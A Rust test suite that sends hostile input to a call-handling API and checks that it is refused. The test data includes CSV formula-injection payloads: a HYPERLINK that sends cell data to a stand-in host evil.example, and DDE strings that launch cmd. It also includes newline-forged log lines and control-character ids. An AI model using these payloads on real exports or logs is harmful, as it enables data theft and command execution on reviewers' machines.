//! Hostile input over a real socket: a plugin transferring to a raw number,
//! ids that carry control characters or read as options, formula cells aimed
//! at the reviewer's spreadsheet, a key that must stop working the moment it
//! is revoked, consent times and evidence outside any sane range, and a
//! contact list built to make the refusal itself huge. Each was accepted (or
//! answered in full) before; each must now be refused or bounded, by name.

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::api::{Keys, READS_PHONE, Server};
use crate::serve_process::ServeProcess;

/// Ada, with a phone number (`+15550100`: the number a plugin would try).
fn ada() -> Value {
    json!({"lead_id": "lead-ada", "name": "Ada Lovelace", "phone": "+15550100", "age": "adult"})
}

fn start_call(call_id: &str) -> Value {
    json!({
        "plugin": "reads-data",
        "call_id": call_id,
        "lead_id": "lead-ada",
        "direction": "outbound",
        "locale": "en-US",
    })
}

fn speech(text: &str) -> Value {
    json!({"type": "speech", "text": text, "confidence": 0.92, "final": true})
}

/// Tenant `acme` with the reads-data probe released and Ada consenting to
/// call handling.
async fn probe_and_ada() -> (Server, Keys) {
    let server = Server::start().await;
    let keys = server.tenant("acme").await;
    let probe = std::fs::read(cally_tests::plugin("reads-data")).unwrap();
    server
        .release(&keys, READS_PHONE, &probe, "reads-data", "1.0.0")
        .await;
    server
        .ok(&keys.admin, Method::POST, "/v1/leads", Some(ada()))
        .await;
    server
        .ok(
            &keys.admin,
            Method::POST,
            "/v1/leads/lead-ada/consents",
            Some(
                json!({"purpose": "call-handling", "source": "web-form", "evidence": "form-2291"}),
            ),
        )
        .await;
    (server, keys)
}

/// The `detail` of a problem document.
fn detail(problem: &Value) -> &str {
    problem["detail"].as_str().unwrap_or_default()
}

/// A plugin reads the lead's phone and transfers the call to it, digits only:
/// the call fails with `invalid_output` naming the target and the alias
/// grammar, and the platform gets the fallback, never a transfer to a number.
#[tokio::test]
async fn a_transfer_to_a_digit_only_number_fails_the_call_naming_the_target() {
    let (server, keys) = probe_and_ada().await;
    for (call_id, target) in [("call-t1", "15550100"), ("call-t2", "0044207946000")] {
        server
            .ok(
                &keys.runtime,
                Method::POST,
                "/v1/calls",
                Some(start_call(call_id)),
            )
            .await;
        let outcome = server
            .ok(
                &keys.runtime,
                Method::POST,
                &format!("/v1/calls/{call_id}/events"),
                Some(speech(&format!("get phone; transfer {target}"))),
            )
            .await;
        assert_eq!(
            outcome["failure"]["reason"], "invalid_output",
            "{outcome:#}"
        );
        let message = outcome["failure"]["message"].as_str().unwrap();
        assert!(
            message.contains(&format!("transfer.target is \"{target}\""))
                && message.contains("starting with a letter"),
            "{message}"
        );
        let actions = outcome["actions"].as_array().unwrap();
        assert!(
            !actions
                .iter()
                .any(|a| a["type"] == "transfer" && a["target"] == target),
            "{outcome:#}"
        );
    }
    // An alias passes: the probe's transfer command itself works.
    server
        .ok(
            &keys.runtime,
            Method::POST,
            "/v1/calls",
            Some(start_call("call-t3")),
        )
        .await;
    let outcome = server
        .ok(
            &keys.runtime,
            Method::POST,
            "/v1/calls/call-t3/events",
            Some(speech("transfer front-desk")),
        )
        .await;
    assert!(outcome.get("failure").is_none(), "{outcome:#}");
    assert_eq!(
        outcome["actions"],
        json!([{"type": "transfer", "target": "front-desk"}])
    );
}

/// A manifest's fallback that transfers to a number is refused at upload.
#[tokio::test]
async fn a_fallback_transfer_to_a_number_is_refused_at_upload() {
    let server = Server::start().await;
    let keys = server.tenant("acme").await;
    let probe = std::fs::read(cally_tests::plugin("reads-data")).unwrap();
    let manifest =
        format!("{READS_PHONE}\n[[fallback]]\ntype = \"transfer\"\ntarget = \"15550100\"\n");
    let (status, problem) = server.upload(&keys, &manifest, &probe).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem:#}");
    assert_eq!(problem["problems"][0]["path"], "fallback[0].target");
    assert!(
        problem["problems"][0]["allowed"]
            .as_str()
            .unwrap()
            .contains("starting with a letter"),
        "{problem:#}"
    );
}

/// Ids with a NUL, a newline, or that read as an option (`-`, `--`), at every
/// place an id enters over the API: tenant, lead (one and imported), call,
/// campaign, key label, and path parameters. Each is refused naming the field
/// and showing the value escaped; nothing is stored.
#[tokio::test]
async fn ids_with_control_characters_or_option_shapes_are_refused_where_they_enter() {
    let server = Server::start().await;
    let keys = server.tenant("acme").await;
    let probe = std::fs::read(cally_tests::plugin("reads-data")).unwrap();
    server
        .release(&keys, READS_PHONE, &probe, "reads-data", "1.0.0")
        .await;
    let bad_ids = [
        "-",
        "--",
        "a\u{0}b",
        "call-1\nERROR forged",
        "=HYPERLINK(\"x\")",
    ];
    for bad in bad_ids {
        let shown = format!("{bad:?}");
        let (status, problem) = server
            .send(
                Some(&server.admin_key),
                Method::POST,
                "/v1/tenants",
                Some(json!({"id": bad})),
            )
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem:#}");
        assert!(
            detail(&problem).starts_with(&format!("tenant id {shown}")),
            "{problem:#}"
        );

        let (status, problem) = server
            .send(
                Some(&keys.admin),
                Method::POST,
                "/v1/leads",
                Some(json!({"lead_id": bad, "age": "adult"})),
            )
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem:#}");
        assert!(
            detail(&problem).starts_with(&format!("lead_id {shown} is refused")),
            "{problem:#}"
        );

        let (status, problem) = server
            .send(
                Some(&keys.admin),
                Method::POST,
                "/v1/leads/import",
                Some(json!([{"lead_id": "lead-ok"}, {"lead_id": bad}])),
            )
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem:#}");
        assert!(
            detail(&problem).contains(&format!("row 2: lead_id {shown} is refused")),
            "{problem:#}"
        );

        let (status, problem) = server
            .send(
                Some(&keys.runtime),
                Method::POST,
                "/v1/calls",
                Some(json!({"plugin": "reads-data", "call_id": bad, "direction": "inbound", "locale": "en-US"})),
            )
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem:#}");
        assert!(
            detail(&problem).starts_with(&format!("call_id {shown} is refused")),
            "{problem:#}"
        );
        assert!(detail(&problem).contains("starting with a letter or a digit"));

        let (status, problem) = server
            .send(
                Some(&keys.runtime),
                Method::POST,
                "/v1/calls",
                Some(
                    json!({"plugin": "reads-data", "call_id": "call-c", "campaign": bad,
                            "direction": "inbound", "locale": "en-US"}),
                ),
            )
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem:#}");
        assert!(
            detail(&problem).starts_with(&format!("campaign {shown} is refused")),
            "{problem:#}"
        );
    }

    // A key's label is text, not an id, but a control character in it is refused too.
    let (status, problem) = server
        .send(
            Some(&keys.admin),
            Method::POST,
            "/v1/keys",
            Some(json!({"role": "developer", "label": "dev\nERROR forged"})),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem:#}");
    assert!(
        detail(&problem).starts_with("label \"dev\\nERROR forged\" is refused"),
        "{problem:#}"
    );

    // Path parameters: a NUL or a newline, percent-encoded, is refused before any lookup.
    for (key, method, path, name) in [
        (&keys.admin, Method::GET, "/v1/leads/a%00b", "id"),
        (&keys.admin, Method::GET, "/v1/leads/a%0Ab/consents", "id"),
        (
            &keys.runtime,
            Method::POST,
            "/v1/calls/c%0AERROR/events",
            "call_id",
        ),
        (&keys.runtime, Method::GET, "/v1/calls/c%0D%0A", "call_id"),
        (&keys.admin, Method::DELETE, "/v1/keys/k%00", "id"),
    ] {
        let body = (method == Method::POST).then(|| speech("hi"));
        let (status, problem) = server.send(Some(key), method.clone(), path, body).await;
        assert_eq!(
            status,
            StatusCode::BAD_REQUEST,
            "{method} {path}: {problem:#}"
        );
        assert_eq!(problem["type"], "urn:cally:problem:invalid-id");
        assert!(
            detail(&problem).starts_with(&format!("path parameter {name} ")),
            "{method} {path}: {problem:#}"
        );
    }

    // Nothing was stored.
    let leads = server.ok(&keys.admin, Method::GET, "/v1/leads", None).await;
    assert_eq!(leads, json!([]));
    let (status, _) = server
        .send(Some(&keys.runtime), Method::GET, "/v1/calls/call-c", None)
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

/// The platform (or anyone holding a runtime key) tries call ids and
/// campaigns built to run as formulas when a reviewer opens the audit export
/// in a spreadsheet. They are refused at the start of the call, and no text
/// cell of the CSV export begins with `=`, `+`, `-`, `@`, a tab or a CR.
#[tokio::test]
async fn formula_call_ids_never_reach_the_csv_export_as_formulas() {
    let (server, keys) = probe_and_ada().await;
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    for call_id in formulas {
        let (status, answer) = server
            .send(
                Some(&keys.runtime),
                Method::POST,
                "/v1/calls",
                Some(start_call(call_id)),
            )
            .await;
        if status.is_success() {
            // Were it started, its reads would be audited under this id.
            server
                .ok(
                    &keys.runtime,
                    Method::POST,
                    &format!("/v1/calls/{}/events", urlencode(call_id)),
                    Some(speech("get phone")),
                )
                .await;
        } else {
            assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{answer:#}");
        }
    }
    // One ordinary call, so the export has records.
    server
        .ok(
            &keys.runtime,
            Method::POST,
            "/v1/calls",
            Some(start_call("call-ok")),
        )
        .await;
    server
        .ok(
            &keys.runtime,
            Method::POST,
            "/v1/calls/call-ok/events",
            Some(speech("get phone")),
        )
        .await;

    let csv = server
        .client
        .get(format!("{}/v1/audit/export?format=csv", server.url))
        .bearer_auth(&keys.reviewer)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert!(!rows.is_empty(), "{csv}");
    for row in &rows {
        for cell in row.iter().filter(|cell| cell.parse::<f64>().is_err()) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a CSV cell a spreadsheet would run: {cell:?}\n{csv}"
            );
        }
    }
}

/// Percent-encodes everything but unreserved characters, for a path segment.
fn urlencode(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// A tenant admin lists its keys (never a secret) and revokes one: the very
/// next request with it, right after a request that put it in the host's key
/// cache, gets 401. Another tenant's admin can neither see nor revoke it
/// (404, as a missing key); a developer may not manage keys (403); the
/// platform admin sees and revokes any tenant's key.
#[tokio::test]
async fn a_revoked_key_is_refused_on_the_very_next_request() {
    let server = Server::start().await;
    let acme = server.tenant("acme").await;
    let other = server.tenant("globex").await;
    let issued = server
        .ok(
            &acme.admin,
            Method::POST,
            "/v1/keys",
            Some(json!({"role": "runtime", "label": "voice-platform"})),
        )
        .await;
    let key = issued["key"].as_str().unwrap().to_owned();
    let id = issued["id"].as_str().unwrap().to_owned();

    // Used once: now cached by the host.
    let (status, _) = server
        .send(Some(&key), Method::GET, "/v1/calls/none", None)
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND, "the key works");

    // The listing: the tenant's five keys, ids and labels, no secret.
    let (status, listed) = server
        .send(Some(&acme.admin), Method::GET, "/v1/keys", None)
        .await;
    assert_eq!(status, StatusCode::OK, "{listed:#}");
    let listed = listed.as_array().unwrap().clone();
    assert_eq!(listed.len(), 5, "{listed:?}");
    assert!(listed.iter().all(|k| k["tenant"] == "acme"), "{listed:?}");
    assert!(
        listed
            .iter()
            .any(|k| k["id"] == id.as_str() && k["label"] == "voice-platform")
    );
    let text = serde_json::to_string(&listed).unwrap();
    for secret in [&key, &acme.admin, &acme.developer, &acme.runtime] {
        let hash = cally_host::api::key_hash(secret);
        assert!(
            !text.contains(secret.as_str()) && !text.contains(&hash),
            "the listing holds a key or its hash: {text}"
        );
    }
    assert!(
        listed
            .iter()
            .all(|k| k.get("key").is_none() && k.get("key_hash").is_none())
    );

    // Who may not revoke it.
    let (status, problem) = server
        .send(
            Some(&other.admin),
            Method::DELETE,
            &format!("/v1/keys/{id}"),
            None,
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{problem:#}");
    let others = server.ok(&other.admin, Method::GET, "/v1/keys", None).await;
    assert!(!others.to_string().contains(&id), "{others:#}");
    let (status, _) = server
        .send(
            Some(&acme.developer),
            Method::DELETE,
            &format!("/v1/keys/{id}"),
            None,
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = server
        .send(Some(&key), Method::GET, "/v1/calls/none", None)
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND, "still works");

    // Revoked: the very next request is 401, and so is every later one.
    let (status, answer) = server
        .send(
            Some(&acme.admin),
            Method::DELETE,
            &format!("/v1/keys/{id}"),
            None,
        )
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT, "{answer:#}");
    for _ in 0..3 {
        let (status, problem) = server
            .send(Some(&key), Method::GET, "/v1/calls/none", None)
            .await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{problem:#}");
    }
    let listed = server.ok(&acme.admin, Method::GET, "/v1/keys", None).await;
    assert_eq!(listed.as_array().unwrap().len(), 4);
    let (status, _) = server
        .send(
            Some(&acme.admin),
            Method::DELETE,
            &format!("/v1/keys/{id}"),
            None,
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND, "revoked once");

    // The platform admin sees every tenant's keys and revokes another tenant's.
    let all = server
        .ok(&server.admin_key, Method::GET, "/v1/keys", None)
        .await;
    let globex_runtime = all
        .as_array()
        .unwrap()
        .iter()
        .find(|k| k["tenant"] == "globex" && k["role"] == "runtime")
        .expect("globex's runtime key is listed")["id"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(
        all.as_array()
            .unwrap()
            .iter()
            .any(|k| k["role"] == "platform-admin")
    );
    let (status, _) = server
        .send(Some(&other.runtime), Method::GET, "/v1/calls/none", None)
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND, "cached");
    let (status, _) = server
        .send(
            Some(&server.admin_key),
            Method::DELETE,
            &format!("/v1/keys/{globex_runtime}"),
            None,
        )
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (status, _) = server
        .send(Some(&other.runtime), Method::GET, "/v1/calls/none", None)
        .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
}

/// Consent times of -1 and `i64::MAX`, an expiry before the grant, and empty,
/// blank or oversized evidence are refused with 422 naming the field, and
/// no consent is recorded.
#[tokio::test]
async fn consent_times_and_evidence_outside_sane_limits_are_refused_by_field() {
    let server = Server::start().await;
    let keys = server.tenant("acme").await;
    server
        .ok(&keys.admin, Method::POST, "/v1/leads", Some(ada()))
        .await;
    let base = json!({"purpose": "call-handling", "source": "web-form", "evidence": "form-2291"});
    let with = |field: &str, value: Value| {
        let mut body = base.clone();
        body[field] = value;
        body
    };
    let cases = [
        (with("granted_at_ms", json!(-1)), "granted_at_ms is -1"),
        (
            with("granted_at_ms", json!(i64::MAX)),
            "granted_at_ms is 9223372036854775807",
        ),
        (with("granted_at_ms", json!(0)), "granted_at_ms is 0"),
        (with("expires_at_ms", json!(-1)), "expires_at_ms is -1"),
        (
            with("expires_at_ms", json!(i64::MAX)),
            "expires_at_ms is 9223372036854775807",
        ),
        (
            json!({"purpose": "call-handling", "source": "web-form", "evidence": "form-1",
                   "granted_at_ms": 1_700_000_000_000_i64, "expires_at_ms": 1_600_000_000_000_i64}),
            "expires_at_ms is 1600000000000, but it must be after granted_at_ms",
        ),
        (with("evidence", json!("")), "evidence \"\" is refused"),
        (
            with("evidence", json!("   ")),
            "evidence \"   \" is refused",
        ),
        (with("evidence", json!("e".repeat(5000))), "evidence \"eeee"),
        (
            with("evidence", json!("form\n2291")),
            "evidence \"form\\n2291\" is refused",
        ),
        (with("source", json!("")), "source \"\" is refused"),
    ];
    for (body, expected) in cases {
        let (status, problem) = server
            .send(
                Some(&keys.admin),
                Method::POST,
                "/v1/leads/lead-ada/consents",
                Some(body.clone()),
            )
            .await;
        assert_eq!(
            status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{body}: {problem:#}"
        );
        assert!(
            detail(&problem).starts_with(expected),
            "{body}: {problem:#}"
        );
    }
    let consents = server
        .ok(
            &keys.admin,
            Method::GET,
            "/v1/leads/lead-ada/consents",
            None,
        )
        .await;
    assert_eq!(consents, json!([]), "nothing was recorded");
    // A sane consent with both times still goes in.
    let sane = json!({"purpose": "call-handling", "source": "web-form", "evidence": "form-1",
                      "granted_at_ms": 1_700_000_000_000_i64, "expires_at_ms": 4_000_000_000_000_i64});
    server
        .ok(
            &keys.admin,
            Method::POST,
            "/v1/leads/lead-ada/consents",
            Some(sane),
        )
        .await;
}

/// A million-row CSV in which every row is refused: the refusal lists the
/// first 20 rows and counts the rest, in a few kilobytes, where it once
/// answered with every row (tens of megabytes).
#[tokio::test]
async fn a_million_bad_rows_get_a_bounded_refusal_with_a_count() {
    let server = Server::start().await;
    let keys = server.tenant("acme").await;
    let rows = 1_000_000;
    let mut body = String::from("lead_id,name\n");
    body.push_str(&",\n".repeat(rows));
    let response = server
        .client
        .post(format!("{}/v1/leads/import", server.url))
        .bearer_auth(&keys.admin)
        .header("content-type", "text/csv")
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let text = response.text().await.unwrap();
    assert!(text.len() < 16 * 1024, "a {} byte refusal", text.len());
    let problem: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(problem["type"], "urn:cally:problem:import-refused");
    assert_eq!(problem["more_problems"], rows - 20, "{problem:#}");
    let detail = detail(&problem);
    assert!(
        detail.starts_with("1000000 of 1000000 rows refused; nothing was imported:\nrow 1: "),
        "{detail}"
    );
    assert_eq!(detail.matches("\nrow ").count(), 20, "{detail}");
    assert!(
        detail.contains("row 20: ") && !detail.contains("row 21: "),
        "{detail}"
    );
    assert!(detail.ends_with("… and 999980 more not listed (a refusal lists the first 20)"));

    // One row whose refusal quotes a megabyte-long value: the line is cut.
    let long = format!(
        "[{{\"lead_id\": \"lead-1\", \"age\": \"{}\"}}]",
        "x".repeat(1 << 20)
    );
    let response = server
        .client
        .post(format!("{}/v1/leads/import", server.url))
        .bearer_auth(&keys.admin)
        .header("content-type", "application/json")
        .body(long)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let text = response.text().await.unwrap();
    assert!(text.len() < 4 * 1024, "a {} byte refusal", text.len());
    assert!(text.contains("characters)"), "{text}");
    let leads = server.ok(&keys.admin, Method::GET, "/v1/leads", None).await;
    assert_eq!(leads, json!([]));
}

/// A manifest with thirty bad tags: the refusal lists twenty problems and
/// counts the other ten.
#[tokio::test]
async fn a_manifest_with_many_problems_gets_a_bounded_list() {
    let server = Server::start().await;
    let keys = server.tenant("acme").await;
    let probe = std::fs::read(cally_tests::plugin("reads-data")).unwrap();
    let mut manifest = READS_PHONE.to_owned();
    for i in 0..30 {
        manifest.push_str(&format!(
            "\n[[tags]]\ntag = \"Bad Tag {i}\"\nreason = \"none\"\n"
        ));
    }
    let (status, problem) = server.upload(&keys, &manifest, &probe).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem:#}");
    let problems = problem["problems"].as_array().unwrap();
    assert_eq!(problems.len(), 20, "{problem:#}");
    assert!(
        problem["more_problems"].as_u64().unwrap() >= 10,
        "{problem:#}"
    );
}

/// `cally serve --demo` logging at `info`, as an operator runs it: a runtime
/// key starts a call whose id carries a newline and a made-up log line. The
/// start is refused naming `call_id`, and the host's log holds no line the
/// caller wrote; an ordinary call's start is logged (so the log is read).
#[test]
fn a_newline_in_a_call_id_cannot_forge_a_host_log_line() {
    use std::process::{Command, Stdio};

    let dir = tempfile::tempdir().unwrap();
    let log_path = dir.path().join("serve.log");
    let log = std::fs::File::create(&log_path).unwrap();
    let mut command = ServeProcess::command();
    command
        .args(["--demo", "--bind", "127.0.0.1:0", "--data-dir"])
        .arg(dir.path().join("data"))
        .env("RUST_LOG", "info")
        .env("NO_COLOR", "1")
        .stderr(Stdio::from(log));
    let server = ServeProcess::spawn(command);
    let url = &server.url;
    let runtime = server.demo_key("runtime");
    let forged = "2026-11-30T00:00:00.000000Z ERROR cally: audit chain broken, tenant=demo";
    let start = |call_id: &str| {
        let body = json!({"plugin": "appointment-reminder", "call_id": call_id,
                          "lead_id": "lead-ada", "direction": "outbound", "locale": "en-US"});
        let output = Command::new("curl")
            .args(["-sS", "-o", "/dev/null", "-w", "%{http_code}", "-X", "POST"])
            .arg(format!("{url}/v1/calls"))
            .args(["-H", &format!("Authorization: Bearer {runtime}")])
            .args([
                "-H",
                "Content-Type: application/json",
                "-d",
                &body.to_string(),
            ])
            .output()
            .unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let forging = [
        start(&format!("demo-x\n{forged}")),
        start(&format!("demo-y\r\n{forged}")),
    ];
    assert_eq!(start("demo-ok"), "201");

    // SIGTERM to this test's own server process, by its id; then read its log.
    server.stop();
    let log = std::fs::read_to_string(&log_path).unwrap();
    assert!(
        log.lines()
            .any(|l| l.contains("call started") && l.contains("demo-ok")),
        "the ordinary call's start is logged:\n{log}"
    );
    assert!(
        !log.contains("audit chain broken"),
        "a caller-written line reached the host log:\n{log}"
    );
    assert_eq!(forging, ["422", "422"], "both starts are refused");
}

/// `cally simulate` with scripts whose call id is `-`, `--`, or carries a NUL
/// or a newline: each is refused before the plugin runs, with exit code 2
/// and a message naming `call_id` and showing the value escaped.
#[test]
fn simulate_refuses_scripts_whose_ids_leave_the_grammar() {
    use std::process::Command;

    let dir = tempfile::tempdir().unwrap();
    for (call_id, shown) in [
        ("-", r#""-""#),
        ("--", r#""--""#),
        ("a\u{0}b", r#""a\0b""#),
        ("call-1\nERROR forged", r#""call-1\nERROR forged""#),
    ] {
        let script = dir.path().join("call.json");
        let started = json!({"type": "started", "call_id": call_id,
                             "direction": "inbound", "locale": "en-US"});
        std::fs::write(&script, json!({"events": [started]}).to_string()).unwrap();
        let output = Command::new(env!("CARGO_BIN_EXE_cally-e2e"))
            .args(["simulate", "--example", "support-router", "--script"])
            .arg(&script)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{call_id:?}: {stderr}");
        assert!(
            stderr.contains(&format!("started: call_id {shown} is refused")),
            "{call_id:?}: {stderr}"
        );
        assert!(output.stdout.is_empty(), "the plugin never ran");
    }
}
